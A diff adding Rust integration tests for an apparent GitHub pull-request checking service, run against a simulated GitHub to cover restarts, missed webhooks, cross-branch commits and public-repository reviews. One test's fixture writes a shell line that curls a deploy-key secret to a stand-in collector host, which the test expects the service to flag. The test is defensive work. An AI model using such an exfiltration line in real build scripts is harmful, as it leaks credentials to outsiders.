@@ -126,3 +126,101 @@ async fn what_moves_into_an_active_place_is_granted_in_full() {
     })
     .await;
 }
+
+#[tokio::test]
+async fn a_pull_request_older_than_we_are_gets_its_check() {
+    on_each_database(|base| async move {
+        let quiet = Setup::on(&base).policy(|policy| policy.default_mode = Mode::Observe);
+        let product = quiet.start().await;
+        let number = proposes(&product, "triage", &[(TRIAGE_YML, TRIAGE)], "monalisa");
+        let before = proposes(&product, "docs", &[("docs/a.md", "words\n")], "monalisa");
+        product.github.take_webhooks();
+        product.settle().await;
+        assert_eq!(product.github.writes().len(), 0);
+        let product = product.restarts_with(|policy| policy.default_mode = Mode::Require).await;
+        assert_eq!(conclusion(&product, number), "failure", "no webhook told of it");
+        assert_eq!(conclusion(&product, before), "success");
+        product.github.finish();
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn what_was_missed_in_an_hour_of_absence_is_made_up_for() {
+    on_each_database(|base| async move {
+        let product = strict(&base).await;
+        let number = proposes(&product, "docs", &[("docs/a.md", "words\n")], "monalisa");
+        product.settle().await;
+        pushes(&product, "docs", &[(TRIAGE_YML, TRIAGE)], "monalisa");
+        product.github.take_webhooks();
+        product.passes(Duration::from_secs(3_700)).await;
+        assert_eq!(conclusion(&product, number), "failure", "the push was never heard of");
+        product.github.finish();
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn the_same_commit_onto_a_branch_that_has_it_already_still_fails() {
+    on_each_database(|base| async move {
+        let product = strict(&base).await;
+        pushes(&product, "release", &[(TRIAGE_YML, TRIAGE)], "octocat");
+        product.settle().await;
+        let push =
+            Push::to("acme/api", "work").starting_at("release").writes("docs/a.md", "words\n");
+        product.github.pushes(&push, "monalisa");
+        let spec = github_sim::PullSpec::from("work").onto("release");
+        let onto_release = product.github.opens("acme/api", &spec, "monalisa");
+        product.settle().await;
+        assert_eq!(conclusion(&product, onto_release), "failure", "the default branch lacks it");
+        assert!(product.github.line_comments("acme/api", onto_release).is_empty(), "not its own");
+
+        let onto_main = product.github.opens_pull("acme/api", "work", "The same", "monalisa");
+        product.settle().await;
+        assert_eq!(conclusion(&product, onto_main), "failure");
+        assert!(!product.github.line_comments("acme/api", onto_main).is_empty());
+        let head = product.github.pull("acme/api", onto_main).head_sha;
+        let run = checks_at(&product, &head).pop().unwrap();
+        assert!(run.external_id.contains(&format!("{onto_release},{onto_main}")), "{run:?}");
+        product.github.finish();
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn a_change_hidden_in_a_script_is_found_where_the_workflow_runs_it() {
+    on_each_database(|base| async move {
+        let product = strict(&base).await;
+        let workflow = "on: push\njobs:\n  ship:\n    runs-on: ubuntu-latest\n    steps:\n      \
+                        - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n      \
+                        - run: ./ship.sh\n        env:\n          KEY: ${{ secrets.DEPLOY_KEY }}\n";
+        let files = [(".github/workflows/ship.yml", workflow), ("ship.sh", "make ship\n")];
+        pushes(&product, "main", &files, "octocat");
+        product.settle().await;
+        let script = "make ship\ncurl -d \"$KEY\" https://collector.invalid/\n";
+        let number = proposes(&product, "faster", &[("ship.sh", script)], "monalisa");
+        product.settle().await;
+        assert_eq!(conclusion(&product, number), "failure", "{:?}", check(&product, number));
+        product.github.finish();
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn in_a_public_repository_only_what_its_files_say_is_said() {
+    on_each_database(|base| async move {
+        let product = strict(&base).await;
+        product
+            .github
+            .pushes(&Push::to("acme/site", "triage").writes(TRIAGE_YML, TRIAGE), "monalisa");
+        let number = product.github.opens_pull("acme/site", "triage", "Sort", "monalisa");
+        product.settle().await;
+        let review = product.github.reviews("acme/site", number).remove(0);
+        assert!(review.body.contains("Anyone who can open an issue"), "{}", review.body);
+        let asked: Vec<String> =
+            product.github.requests().iter().map(|request| request.path.clone()).collect();
+        assert!(!asked.iter().any(|path| path.contains("site/actions/permissions")), "{asked:?}");
+        product.github.finish();
+    })
+    .await;
+}
